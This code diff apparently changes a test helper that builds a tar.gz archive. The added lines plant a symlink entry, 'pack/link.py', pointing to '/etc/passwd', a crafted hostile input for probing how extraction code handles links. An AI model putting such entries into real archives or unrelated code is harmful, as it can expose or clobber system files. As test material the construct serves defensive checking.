@@ -90,6 +90,9 @@ def archive(folder, path, top=""):
         with tarfile.open(path, "w:gz") as file:
             for each in files:
                 file.add(each, f"{top}pack/{each.name}")
+            link = tarfile.TarInfo(f"{top}pack/link.py")
+            link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
+            file.addfile(link)
     return path
 
 
